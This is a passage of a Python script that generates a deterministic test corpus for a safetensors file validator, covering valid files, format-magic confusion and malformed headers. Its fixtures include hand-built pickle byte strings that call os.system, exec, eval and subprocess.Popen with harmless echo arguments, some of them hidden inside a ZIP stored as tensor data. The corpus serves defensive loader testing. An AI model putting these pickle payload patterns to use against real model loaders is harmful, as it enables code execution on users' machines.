#!/usr/bin/python3
"""Generates the gate's test corpus: tests/corpus/cases/<case>.<ext> and tests/corpus/expected.tsv.

Run with /usr/bin/python3 (it has torch 1.13 and numpy):
    /usr/bin/python3 tests/corpus/generate.py            # rewrite cases/ and expected.tsv
    /usr/bin/python3 tests/corpus/generate.py --large DIR # write only the large cases into DIR

Every byte is deterministic (no clocks, no random seeds left to the OS, no
pointer values): running it twice gives the same files. The large cases (tens of
MB, mostly spaces) are not committed; run.sh writes them into a temporary
directory with --large, which needs only the standard library.

Pickles here are built as bytes and are NEVER unpickled: the ones that name
`os system` carry an `echo` argument, and nothing in this script loads them.

The case name's first word is its family (valid, magic, reason, tob, ref,
format, bypass, sidecar, nonfinite); README.md explains each family.
"""

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CASES_DIR = os.path.join(HERE, "cases")
HAND_DIR = os.path.join(HERE, "hand")
EXPECTED = os.path.join(HERE, "expected.tsv")

# --- the format's facts -------------------------------------------------------

DTYPE_BITS = {
    "BOOL": 8, "U8": 8, "I8": 8, "F8_E5M2": 8, "F8_E4M3": 8, "F8_E8M0": 8,
    "F8_E4M3FNUZ": 8, "F8_E5M2FNUZ": 8, "I16": 16, "U16": 16, "F16": 16, "BF16": 16,
    "I32": 32, "U32": 32, "F32": 32, "C64": 64, "F64": 64, "I64": 64, "U64": 64,
    "F4": 4, "F6_E2M3": 6, "F6_E3M2": 6,
}
# The reference writer's order: descending alignment, then name (REFERENCES.md).
WRITER_ORDER = ["U64", "I64", "F64", "C64", "F32", "U32", "I32", "BF16", "F16", "U16", "I16",
                "F8_E5M2FNUZ", "F8_E4M3FNUZ", "F8_E8M0", "F8_E4M3", "F8_E5M2", "I8", "U8",
                "F6_E3M2", "F6_E2M3", "F4", "BOOL"]
U64_MAX = 2**64 - 1


def det_bytes(n, seed):
    """n deterministic pseudo-random bytes (SHA-256 in counter mode)."""
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return bytes(out[:n])


def nbytes(dtype, shape):
    elements = 1
    for d in shape:
        elements *= d
    bits = elements * DTYPE_BITS[dtype]
    assert bits % 8 == 0, (dtype, shape)
    return bits // 8


def frame(header, data=b"", n=None):
    """8-byte little-endian N, the header bytes, the data section."""
    if isinstance(header, str):
        header = header.encode("utf-8")
    if n is None:
        n = len(header)
    return struct.pack("<Q", n) + header + data


def compact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def build(specs, metadata=None, pad=False, order=None, seed="d", header_extra=""):
    """A safetensors file from specs [(name, dtype, shape[, data])]: offsets follow the
    list order (or `order`, a list of names, for the header's key order)."""
    entries = {}
    data = b""
    for spec in specs:
        name, dtype, shape = spec[:3]
        size = nbytes(dtype, shape)
        payload = spec[3] if len(spec) > 3 else det_bytes(size, f"{seed}:{name}")
        assert len(payload) == size
        entries[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [len(data), len(data) + size]}
        data += payload
    header = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    for name in (order or list(entries)):
        header[name] = entries[name]
    text = compact(header).encode("utf-8")
    if pad:
        # The reference pads the header with spaces so the data starts at a multiple of 8.
        text += b" " * ((-(8 + len(text))) % 8)
    return frame(text, data)


def reference_writer(tensors, metadata=None):
    """Lays a dict name -> (dtype, shape) out the way huggingface/safetensors does:
    __metadata__ first, tensors by dtype (descending alignment) then name, compact JSON,
    space padding to a multiple of 8."""
    names = sorted(tensors, key=lambda n: (WRITER_ORDER.index(tensors[n][0]), n))
    specs = [(n, tensors[n][0], tensors[n][1]) for n in names]
    return build(specs, metadata=metadata, pad=True, seed="ref")


def one(dtype="F32", shape=(2,), offsets=None, name="t", raw_entry=None):
    """Header text with a single tensor entry (offsets default to the exact size)."""
    if raw_entry is not None:
        return '{"%s":%s}' % (name, raw_entry)
    if offsets is None:
        offsets = [0, nbytes(dtype, shape)]
    return compact({name: {"dtype": dtype, "shape": list(shape), "data_offsets": offsets}})


def entry(dtype="F32", shape="[2]", offsets="[0,8]"):
    return '{"dtype":"%s","shape":%s,"data_offsets":%s}' % (dtype, shape, offsets)


# --- small binary builders for the other formats ------------------------------

def zip_bytes(members, compression=zipfile.ZIP_STORED):
    """A ZIP with fixed timestamps: members [(name, bytes)]."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, payload in members:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            zf.writestr(info, payload)
    return buf.getvalue()


def tar_bytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = "user"
            tf.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def gzip_bytes(payload):
    return gzip.compress(payload, mtime=0)


def npy_bytes(array, allow_pickle=False):
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def torch_zip(obj):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def torch_legacy(obj):
    """torch.save(..., _use_new_zipfile_serialization=False), with the storage keys
    (decimal pointer values in torch 1.13) replaced by "0", "1", ... so the bytes are
    deterministic. The legacy layout has no lengths that cover those strings."""
    import re
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    keys = []
    for m in re.finditer(rb"X(.{4})(\d{6,20})", raw, re.S):
        if struct.unpack("<I", m.group(1))[0] == len(m.group(2)) and m.group(2) not in keys:
            keys.append(m.group(2))
    for i, key in enumerate(keys):
        new = str(i).encode()
        raw = raw.replace(b"X" + struct.pack("<I", len(key)) + key, b"X" + struct.pack("<I", len(new)) + new)
    return raw


def torch_state():
    import torch
    return {"weight": torch.arange(6, dtype=torch.float32).reshape(2, 3), "bias": torch.zeros(3)}


def zip_records(data):
    """(local header offsets, central header offsets) of a ZIP without a prefix."""
    locals_, centrals = [], []
    i = 0
    while True:
        i = data.find(b"PK\x03\x04", i)
        if i < 0:
            break
        locals_.append(i)
        i += 4
    i = 0
    while True:
        i = data.find(b"PK\x01\x02", i)
        if i < 0:
            break
        centrals.append(i)
        i += 4
    return locals_, centrals


def zip_set_flags(data, flags):
    """Sets general-purpose flag bits in every local and central header (the data stays clear)."""
    out = bytearray(data)
    locals_, centrals = zip_records(data)
    for off in locals_:
        old = struct.unpack_from("<H", out, off + 6)[0]
        struct.pack_into("<H", out, off + 6, old | flags)
    for off in centrals:
        old = struct.unpack_from("<H", out, off + 8)[0]
        struct.pack_into("<H", out, off + 8, old | flags)
    return bytes(out)


def zip_break_crc(data):
    out = bytearray(data)
    locals_, centrals = zip_records(data)
    for off in locals_:
        struct.pack_into("<I", out, off + 14, 0xDEADBEEF)
    for off in centrals:
        struct.pack_into("<I", out, off + 16, 0xDEADBEEF)
    return bytes(out)


def zip_rename_local(data, old, new):
    """Renames a member in its local header only (same length), so local != central."""
    assert len(old) == len(new)
    out = bytearray(data)
    locals_, _ = zip_records(data)
    for off in locals_:
        nlen = struct.unpack_from("<H", out, off + 26)[0]
        name = bytes(out[off + 30:off + 30 + nlen])
        if name == old:
            out[off + 30:off + 30 + nlen] = new
    return bytes(out)


def pb_varint(v):
    out = b""
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num, value):
    if isinstance(value, int):
        return pb_varint(num << 3) + pb_varint(value)
    if isinstance(value, str):
        value = value.encode()
    return pb_varint((num << 3) | 2) + pb_varint(len(value)) + value


def onnx_model():
    """A small ONNX ModelProto: ir_version 8, producer, a one-node graph (Relu), opset 17."""
    node = pb_field(1, "x") + pb_field(2, "y") + pb_field(3, "relu0") + pb_field(4, "Relu")
    tensor_type = pb_field(1, 1) + pb_field(2, pb_field(1, pb_field(1, 4)))
    value_info = lambda name: pb_field(1, name) + pb_field(2, pb_field(1, tensor_type))
    graph = pb_field(1, node) + pb_field(2, "g") + pb_field(11, value_info("x")) + pb_field(12, value_info("y"))
    return (pb_field(1, 8) + pb_field(2, "pytorch") + pb_field(3, "1.13.0") + pb_field(7, graph)
            + pb_field(8, pb_field(1, "") + pb_field(2, 17)))


def gguf_file():
    """GGUF v3: magic, version, tensor count, kv count, one string kv, one tensor info, data."""
    def gstr(s):
        return struct.pack("<Q", len(s)) + s.encode()
    kv = gstr("general.architecture") + struct.pack("<I", 8) + gstr("llama")
    tinfo = gstr("tok_embd.weight") + struct.pack("<I", 2) + struct.pack("<QQ", 4, 2) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + kv + tinfo
    head += b"\0" * ((-len(head)) % 32)
    return head + struct.pack("<8f", *range(8))


def hdf5_file(user_block=0):
    """An HDF5 superblock v0 signature (at 0, or after a user block of 512*2^k bytes)."""
    sig = b"\x89HDF\r\n\x1a\n"
    sb = sig + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HH", 4, 16) + struct.pack("<I", 0)
    sb += struct.pack("<QQQQ", 0, U64_MAX, 800, U64_MAX) + b"\0" * 40
    prefix = b""
    if user_block:
        prefix = (b"user block: written by a tool before the HDF5 data\n" * 20)[:user_block].ljust(user_block, b"\0")
    return prefix + sb + b"\0" * 200


def tflite_file():
    """A FlatBuffer with the TFLite identifier "TFL3" at offset 4."""
    body = struct.pack("<I", 16) + b"TFL3" + b"\0" * 8
    body += struct.pack("<i", 8) + struct.pack("<HHHH", 8, 8, 4, 0) + struct.pack("<I", 3)
    return body + b"\0" * 48


def sevenzip_file(payload):
    """A 7z signature header (version 0.4, start-header CRC over the next-header fields)."""
    nh = struct.pack("<QQI", len(payload), 0, 0)
    return b"7z\xbc\xaf\x27\x1c" + bytes([0, 4]) + struct.pack("<I", zlib.crc32(nh)) + nh + payload


def zstd_frame(payload):
    """A zstd frame: magic, descriptor (single segment, 1-byte content size), one raw block."""
    assert len(payload) < 256
    block_header = (len(payload) << 3) | (0 << 1) | 1  # last block, raw
    return (b"\x28\xb5\x2f\xfd" + bytes([0x20, len(payload)]) + block_header.to_bytes(3, "little") + payload)


def lz4_frame(payload):
    """An LZ4 frame: magic, FLG (version 01, block independence), BD, HC, one uncompressed block, end mark."""
    flg, bd = 0x60, 0x40
    hc = (zlib.crc32(bytes([flg, bd])) >> 8) & 0xFF  # a stand-in for xxh32's byte; sniffers check the magic
    return (b"\x04\x22\x4d\x18" + bytes([flg, bd, hc]) + struct.pack("<I", len(payload) | 0x80000000)
            + payload + b"\0\0\0\0")


# --- pickles (bytes only; never loaded) --------------------------------------

import pickle  # noqa: E402  (dumps only)

HARMLESS = {"epoch": 3, "lr": 0.001, "layers": ["embed", "head"], "name": "checkpoint"}


def pickle_proto(p):
    return pickle.dumps(HARMLESS, protocol=p)


# Protocol 2 stream: GLOBAL os.system, the argument "echo pwned", TUPLE1, REDUCE, STOP.
PICKLE_SYSTEM_P2 = b"\x80\x02cos\nsystem\nq\x00X\x0a\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03."
# Protocol 4: builtins.exec through STACK_GLOBAL on memoized strings, then REDUCE.
PICKLE_EXEC_P4 = b"\x80\x04\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94\x8c\x0aprint(404)\x94\x85\x94R\x94."
# Protocol 3: subprocess.Popen(['echo', 'pwned']).
PICKLE_POPEN_P3 = b"\x80\x03csubprocess\nPopen\nq\x00]q\x01(X\x04\x00\x00\x00echoq\x02X\x05\x00\x00\x00pwnedq\x03e\x85q\x04Rq\x05."
# Protocol 0 (plain ASCII): the same call spelled with text opcodes.
PICKLE_SYSTEM_P0 = b"cos\nsystem\n(S'echo pwned'\ntR."
# Protocol 0 GLOBAL with protocol 1+/4 opcodes mixed in (BINUNICODE, SHORT_BINUNICODE via 0x8c, MEMOIZE).
PICKLE_MIXED = b"cbuiltins\nprint\n\x94(X\x05\x00\x00\x00hello\x8c\x05worldtR."
# Protocol 4 with a frame: GLOBAL via STACK_GLOBAL, REDUCE, then garbage instead of STOP.
PICKLE_BREAKS = (b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x94\x8c\x05print\x94\x93\x94"
                 b"\x8c\x04done\x94\x85\x94R\x94" + b"\xff\xfe\xfd this is not a pickle any more \x00\x01")
# All printable ASCII (valid UTF-8 text) yet pickles whose REDUCE runs before any error:
# no STOP at all; text after REDUCE; SHORT_BINSTRING (protocol 1) with a printable length byte.
PICKLE_TEXT_NO_STOP = b"cos\nsystem\n(S'echo pwned'\ntR"
PICKLE_TEXT_TAIL = b"cos\nsystem\n(S'echo pwned'\ntR\nthis is just text after the payload\n"
PICKLE_TEXT_EVAL = b"c__builtin__\neval\n(Vprint(1)\ntR"
PICKLE_TEXT_SHORT_BINSTRING = b"cos\nsystem\n(U*" + b"echo pwned; echo this-is-harmless-padding!" + b"tR."
PICKLE_TEXT_MEMO_NO_STOP = b"cposix\nsystem\n(S'echo pwned'\ntRp0\n"
PICKLE_P0_BREAKS = b"cos\nsystem\n(S'echo pwned'\ntR" + b"\n\x00\xffGARBAGE AFTER THE PAYLOAD"


# --- the case list -------------------------------------------------------------

CASES = []   # dicts: name, ext, mode, valid, reason, format, offset, note, data
LARGE = []   # same, data produced on demand by a function (not committed)


def END(data):
    """Offset marker: the file's size (where a truncated file ends)."""
    return len(data)


def AT(needle, nth=1):
    """Offset marker: the nth occurrence of needle in the file (a key's opening quote, a number)."""
    if isinstance(needle, str):
        needle = needle.encode("utf-8")

    def resolve(data):
        i = -1
        for _ in range(nth):
            i = data.index(needle, i + 1)
        return i
    return resolve


def add(name, data, reason=None, fmt=None, offset=None, note="", ext="safetensors", mode="st", large=False):
    if callable(offset):
        offset = offset(data)
    if fmt is None:
        fmt = "safetensors" if reason != "refused_format" else None
    assert fmt is not None, name
    row = dict(name=name, ext=ext, mode=mode, valid=reason is None, reason=reason or "-",
               format=fmt, offset="-" if offset is None else str(offset), note=note, data=data)
    assert "\t" not in note and "\n" not in note
    (LARGE if large else CASES).append(row)


def hdr_len(header):
    return len(header.encode("utf-8") if isinstance(header, str) else header)


def family_valid():
    for dtype in DTYPE_BITS:
        shape = {"F4": (2, 4), "F6_E2M3": (4,), "F6_E3M2": (2, 4)}.get(dtype, (2, 3))
        add(f"valid_dtype_{dtype.lower()}", build([("w", dtype, shape)]), note=f"one {dtype} tensor shape {list(shape)}")
    add("valid_all_dtypes_one_file", reference_writer({f"t_{d.lower()}": (d, (4,) if d.startswith("F6") else (2, 2)) for d in DTYPE_BITS}),
        note="all 22 dtypes in one file, reference writer layout")
    add("valid_scalar_f32", build([("s", "F32", ())]), note="shape [] is a scalar: 1 element")
    add("valid_scalar_bool", build([("flag", "BOOL", (), b"\x01")]), note="BOOL scalar")
    add("valid_scalar_f64_and_vector", build([("s", "F64", ()), ("v", "F64", (3,))]), note="scalar next to a vector")
    add("valid_zero_size_2x0", frame(one("I32", (2, 0)) ), note="zero-size tensor, no data (ToB 3: allowed)")
    add("valid_zero_size_0", build([("e", "F16", (0,))]), note="shape [0]")
    add("valid_zero_size_huge_dim_after_zero", frame(one("F32", (0, U64_MAX))), note="[0, u64 max]: product 0, no overflow")
    add("valid_zero_size_huge_dim_before_zero", frame(one("F32", (U64_MAX, 0))), note="[u64 max, 0]: u64max*1 then *0, never overflows")
    add("valid_zero_size_middle", build([("a", "F32", (2,)), ("z", "F32", (0,)), ("b", "F32", (2,))]), note="zero-size tensor between two others (begin=end=8)")
    add("valid_zero_size_end", build([("a", "F32", (2,)), ("z", "U8", (0, 5))]), note="zero-size tensor at the end of the data")
    add("valid_zero_size_two_same_offset", build([("a", "F32", (2,)), ("y", "F32", (0,)), ("z", "I8", (0,)), ("b", "F32", (1,))]),
        note="two zero-size tensors at offset 8 share no byte: no overlap")
    add("valid_only_zero_size", build([("a", "F32", (0,)), ("b", "BF16", (3, 0))]), note="every tensor zero-size: empty data section")
    add("valid_empty_header", frame("{}"), note="no tensors, N=2")
    add("valid_empty_header_padded", frame("{}      "), note="the reference's empty file: {} + 6 spaces")
    add("valid_metadata", build([("w", "F32", (2,))], metadata={"format": "pt", "author": "corpus", "note": "a \"quoted\" value\\n"}),
        note="__metadata__ with three string values")
    add("valid_metadata_empty_object", build([("w", "U8", (1,))], metadata={}), note="__metadata__ = {}")
    add("valid_metadata_only", frame(compact({"__metadata__": {"k": "v"}})), note="metadata, no tensors")
    add("valid_metadata_last", frame('{"w":%s,"__metadata__":{"k":"v"}}' % entry("F32", "[1]", "[0,4]"), b"\0" * 4),
        note="__metadata__ after the tensors: key order is free")
    add("valid_metadata_escapes", frame('{"__metadata__":{"k\\u00e9y":"line\\nbreak \\u2603 \\ud83d\\ude00 \\/ \\\\"},"w":%s}' % entry("U8", "[1]", "[0,1]"), b"\x07"),
        note="metadata key/value with \\u escapes incl. a surrogate pair")
    add("valid_unicode_names", build([("é", "F32", (1,)), ("名前", "F32", (1,)), ("😀.weight", "F32", (1,)), ("name with spaces", "U8", (1,))]),
        note="UTF-8 tensor names")
    add("valid_unicode_escaped_name", frame('{"\\u00e9t\\u00e9":%s}' % entry("U8", "[2]", "[0,2]"), b"ab"),
        note="tensor name written with \\u escapes")
    add("valid_name_quote_backslash", frame('{"a\\"b\\\\c":%s}' % entry("U8", "[1]", "[0,1]"), b"x"), note="name with escaped quote and backslash")
    add("valid_name_1024_bytes", build([("n" * 1024, "U8", (1,))]), note="name of exactly 1024 bytes (the bound)")
    add("valid_name_1024_bytes_multibyte", build([("é" * 512, "U8", (1,))]), note="512 x U+00E9 = 1024 UTF-8 bytes")
    add("valid_name_escaped_800_decoded", frame('{"%s":%s}' % ("\\u00e9" * 400, entry("U8", "[1]", "[0,1]")), b"x"),
        note="2400 raw header bytes, 800 decoded bytes: the bound is on the decoded name")
    add("valid_name_like_metadata", build([("__metadata__x", "F32", (1,)), ("_metadata_", "F32", (1,))]), note="names that resemble __metadata__")
    add("valid_reference_writer_mixed", reference_writer({"model.embed": ("BF16", (4, 4)), "model.norm": ("F32", (4,)),
                                                          "model.ids": ("I64", (3,)), "model.mask": ("BOOL", (5,)),
                                                          "model.scale": ("F8_E4M3", (6,)), "model.q": ("F4", (8,))},
                                                         metadata={"format": "pt"}),
        note="reference writer: metadata first, dtype-then-name order, space padding to 8")
    add("valid_reference_writer_gpt_like", reference_writer({f"h.{i}.{p}": ("F16", (4, 4) if p.endswith("weight") else (4,))
                                                             for i in range(4) for p in ("attn.weight", "attn.bias", "mlp.weight", "mlp.bias")}),
        note="16 F16 tensors named like a transformer")
    add("valid_header_order_differs_from_offsets", build([("a", "F32", (2,)), ("b", "I16", (3,)), ("c", "U8", (1,))], order=["c", "a", "b"]),
        note="header key order differs from data order: offsets decide")
    add("valid_no_padding_unaligned", build([("a", "U8", (3,)), ("b", "F32", (1,))]), note="unpadded header, unaligned F32 data: alignment is not a rule")
    add("valid_json_whitespace_inside", frame('{\n  "w" : {\n\t"dtype" : "F32",\r\n "shape" : [ 2 ] , "data_offsets" : [ 0 , 8 ]\n }\n}', b"\0" * 8),
        note="RFC 8259 whitespace between tokens inside the object is fine")
    add("valid_many_tensors", build([(f"layer.{i}.w", "F16", (2,)) for i in range(2000)]), note="2000 tensors")
    add("valid_rank_32", build([("r", "U8", (1,) * 31 + (2,))]), note="rank-32 shape")
    add("valid_max_u64_zero_offsets_elsewhere", frame(compact({"z": {"dtype": "U8", "shape": [0, 18446744073709551615, 7], "data_offsets": [0, 0]}})),
        note="u64 max fits (no overflow); element count 0")
    add("valid_name_noncharacters", build([("a\uffff", "U8", (1,)), ("b\u2028c", "U8", (1,)), ("d\ufeffe", "U8", (1,))]),
        note="U+FFFF, U+2028 and a mid-name U+FEFF are valid UTF-8 and not controls")
    add("valid_metadata_empty_key_and_value", build([("w", "U8", (1,))], metadata={"": ""}), note="metadata key \"\" with value \"\"")
    add("valid_depth_64_metadata_boundary", frame('{"__metadata__":{"k":"v"},"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b"x"),
        note="depth 3 at most: far under the bound (a control for the json_nesting cases)")
    add("valid_trailing_spaces_many", frame(one("U8", (1,)) + " " * 1000, b"z"), note="1000 spaces after } are allowed")


def family_magic():
    """Valid files whose length bytes (or header/data bytes) spell another format's magic."""
    def padded(n, name="t"):
        base = one("U8", (4,), name=name)
        assert len(base) <= n
        return frame(base + " " * (n - len(base)), b"\x01\x02\x03\x04")
    for n, what in [(640, "pickle protocol 2 (80 02)"), (896, "pickle protocol 3 (80 03)"), (1152, "pickle protocol 4 (80 04)"),
                    (1408, "pickle protocol 5 (80 05)"), (376, "zlib (78 01)"), (35615, "gzip (1F 8B)"), (40056, "zlib (78 9C)"),
                    (55928, "zlib (78 DA)"), (24184, "zlib (78 5E)")]:
        data = padded(n)
        assert data[:8] == struct.pack("<Q", n)
        add(f"magic_length_{n}", data, note=f"N={n}: length bytes spell {what}; framing first: valid")
    # "ustar" at offset 257 inside the header: a tar sniffer would say tar.
    pre = '{"__metadata__":{"pad":"'
    filler = 257 - 8 - len(pre)
    head = pre + "x" * filler + 'ustar00"},"t":' + entry("U8", "[1]", "[0,1]") + "}"
    data = frame(head, b"\x05")
    assert data[257:262] == b"ustar"
    add("magic_ustar_at_257", data, note="'ustar' at offset 257 (tar magic) inside a metadata value: valid")
    # A whole ZIP holding a pickle, stored as a U8 tensor: the tail is a ZIP EOCD.
    z = zip_bytes([("archive/data.pkl", PICKLE_SYSTEM_P2), ("archive/version", b"3\n")])
    add("magic_zip_in_tensor_data", build([("blob", "U8", (len(z),), z)]),
        note="U8 tensor whose bytes are a ZIP with a pickle (EOCD at the file's end): exact framing, valid")
    h = hdf5_file()
    add("magic_hdf5_in_tensor_data", build([("h5", "U8", (len(h),), h)]), note="U8 tensor holding an HDF5 superblock: valid")
    p = pickle_proto(4)
    add("magic_pickle_in_tensor_data", build([("p", "U8", (len(p),), p)]), note="U8 tensor holding a pickle: data is never interpreted: valid")

def family_reason():
    E8 = b"\0" * 8
    # file_too_small
    add("reason_file_too_small_empty", b"", "file_too_small", "unknown", offset=0, note="0 bytes (too little to name a format)")
    add("reason_file_too_small_1", b"{", "file_too_small", "unknown", offset=0, note="1 byte")
    add("reason_file_too_small_7", b"\x02\0\0\0\0\0\0", "file_too_small", "unknown", offset=0, note="7 bytes of a length")
    # header_too_large
    add("reason_header_too_large_100000001", frame("{}", n=100000001), "header_too_large", offset=0, note="N = limit + 1")
    add("reason_header_too_large_u64max", frame("{}", n=U64_MAX), "header_too_large", offset=0, note="N = 2^64-1 (8+N overflows)")
    add("reason_header_too_large_2pow63", frame(one(), b"\0" * 8, n=2**63), "header_too_large", offset=0, note="N = 2^63")
    # header_truncated
    add("reason_header_truncated_n_only", frame(b"", n=60), "header_truncated", offset=END, note="N=60, nothing after")
    add("reason_header_truncated_short", frame(one(), n=hdr_len(one()) + 1), "header_truncated", offset=END, note="header one byte short, no data")
    add("reason_header_truncated_at_limit", frame("{}", n=100000000), "header_truncated", offset=END, note="N exactly at the limit (allowed), tiny file")
    add("reason_header_truncated_99999999", frame("{}", n=99999999), "header_truncated", offset=END, note="N just under the limit, tiny file")
    # header_not_utf8
    h = b'{"a\xff":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_ff_in_name", frame(h, b"x"), "header_not_utf8", offset=8 + 3, note="0xFF byte in a name")
    h = b'{"a\xc0\xaf":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_overlong", frame(h, b"x"), "header_not_utf8", offset=8 + 3, note="overlong encoding C0 AF of '/'")
    h = b'{"a\xed\xa0\x80":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_surrogate", frame(h, b"x"), "header_not_utf8", offset=8 + 3, note="UTF-8 encoded surrogate ED A0 80")
    h = b'{"a\xf4\x90\x80\x80":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_above_10ffff", frame(h, b"x"), "header_not_utf8", offset=8 + 3, note="F4 90 80 80 is above U+10FFFF")
    h = b'{"__metadata__":{"k":"caf\xe9"},"w":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_latin1_metadata", frame(h, b"x"), "header_not_utf8", offset=8 + h.index(b"\xe9"), note="Latin-1 e9 in a metadata value")
    h = one("U8", (1,)).encode() + b" \xe2\x82"
    add("reason_header_not_utf8_in_padding", frame(h, b"x"), "header_not_utf8", note="cut multi-byte sequence after the closing brace")
    h = b'{"a\x80":' + entry("U8", "[1]", "[0,1]").encode() + b"}"
    add("reason_header_not_utf8_lone_continuation", frame(h, b"x"), "header_not_utf8", offset=8 + 3, note="lone continuation byte 0x80")
    # header_start
    add("reason_header_start_space", frame(" " + one(), E8), "header_start", offset=8, note="space before { (the reference accepts it)")
    add("reason_header_start_newline", frame("\n" + one(), E8), "header_start", offset=8, note="newline before {")
    add("reason_header_start_bom", frame("\ufeff" + one(), E8), "header_start", offset=8, note="UTF-8 BOM before {")
    add("reason_header_start_array", frame("[]"), "header_start", offset=8, note="header is a JSON array")
    add("reason_header_start_zero_length_then_zeros", b"\0" * 4096, "header_start", offset=8, ext="bin",
        note="4096 zero bytes: N=0 (within the limit, format unknown) so a safetensors attempt with an empty header")
    add("reason_header_start_exactly_8_zero_bytes", b"\0" * 8, "header_start", offset=8, note="N=0 and nothing else")
    add("reason_header_start_all_spaces", frame("    "), "header_start", offset=8, note="header of 4 spaces, no object")
    add("reason_header_start_string", frame('"x"'), "header_start", offset=8, note="header is a JSON string")
    # header_trailing_bytes
    h = one()
    add("reason_header_trailing_bytes_x", frame(h + "x", E8), "header_trailing_bytes", offset=8 + len(h), note="'x' after }")
    add("reason_header_trailing_bytes_nul_padding", frame(h + "\0\0\0", E8), "header_trailing_bytes", offset=8 + len(h), note="NUL padding after } (some writers do this)")
    add("reason_header_trailing_bytes_tab", frame(h + "  \t", E8), "header_trailing_bytes", offset=8 + len(h) + 2, note="tab after } (only spaces allowed)")
    add("reason_header_trailing_bytes_newline", frame(h + "\n", E8), "header_trailing_bytes", offset=8 + len(h), note="newline after }")
    add("reason_header_trailing_bytes_second_object", frame(h + "{}", E8), "header_trailing_bytes", offset=8 + len(h), note="a second object after the first")
    # json_syntax
    add("reason_json_syntax_trailing_comma", frame('{"w":%s,}' % entry(), E8), "json_syntax", note="trailing comma in the object")
    add("reason_json_syntax_single_quotes", frame("{'w':%s}" % entry(), E8), "json_syntax", note="single-quoted key")
    add("reason_json_syntax_missing_colon", frame('{"w" %s}' % entry(), E8), "json_syntax", note="missing colon")
    add("reason_json_syntax_unterminated_string", frame('{"w'), "json_syntax", note="string never closed")
    add("reason_json_syntax_unclosed_object", frame('{"w":%s' % entry(), E8), "json_syntax", note="closing brace missing")
    add("reason_json_syntax_comment", frame('{/*c*/"w":%s}' % entry(), E8), "json_syntax", note="comment in JSON")
    add("reason_json_syntax_raw_control_in_string", frame('{"a\x01b":%s}' % entry(), E8), "json_syntax", note="raw U+0001 inside a string (must be escaped)")
    add("reason_json_syntax_raw_tab_in_string", frame('{"a\tb":%s}' % entry(), E8), "json_syntax", note="raw tab inside a string")
    add("reason_json_syntax_nan_literal", frame('{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,8]}}', E8), "json_syntax", note="NaN literal")
    add("reason_json_syntax_missing_comma", frame('{"w":{"dtype":"F32" "shape":[2],"data_offsets":[0,8]}}', E8), "json_syntax", note="missing comma between members")
    add("reason_json_syntax_bare_word", frame('{"w":{"dtype":F32,"shape":[2],"data_offsets":[0,8]}}', E8), "json_syntax", note="unquoted string")
    add("reason_json_syntax_lonely_minus", frame('{"w":{"dtype":"F32","shape":[-],"data_offsets":[0,8]}}', E8), "json_syntax", note="'-' without digits")
    # json_escape
    add("reason_json_escape_unknown_x", frame('{"a\\xb":%s}' % entry(), E8), "json_escape", note="\\x is not a JSON escape")
    add("reason_json_escape_lone_high_surrogate", frame('{"a\\ud800":%s}' % entry(), E8), "json_escape", note="lone high surrogate")
    add("reason_json_escape_lone_low_surrogate", frame('{"a\\udc00":%s}' % entry(), E8), "json_escape", note="lone low surrogate")
    add("reason_json_escape_high_then_bmp", frame('{"a\\ud800\\u0041":%s}' % entry(), E8), "json_escape", note="high surrogate followed by a non-surrogate escape")
    add("reason_json_escape_short_u", frame('{"a\\u12":%s}' % entry(), E8), "json_escape", note="\\u with two hex digits")
    add("reason_json_escape_bad_hex", frame('{"a\\u12G4":%s}' % entry(), E8), "json_escape", note="\\u with a non-hex digit")
    add("reason_json_escape_in_metadata", frame('{"__metadata__":{"k":"\\q"},"w":%s}' % entry(), E8), "json_escape", note="\\q in a metadata value")
    add("reason_json_escape_nul_in_metadata_value", frame('{"__metadata__":{"k":"a\\u0000b"},"w":%s}' % entry(), E8), "json_escape",
        note="\\u0000 in a metadata value: a C string would end there (parser differential)")
    add("reason_json_escape_nul_in_metadata_key", frame('{"__metadata__":{"k\\u0000":"v"},"w":%s}' % entry(), E8), "json_escape",
        note="\\u0000 in a metadata key")
    add("reason_json_escape_single_quote", frame('{"a\\\'b":%s}' % entry(), E8), "json_escape", note="\\' is not a JSON escape")
    # json_duplicate_key
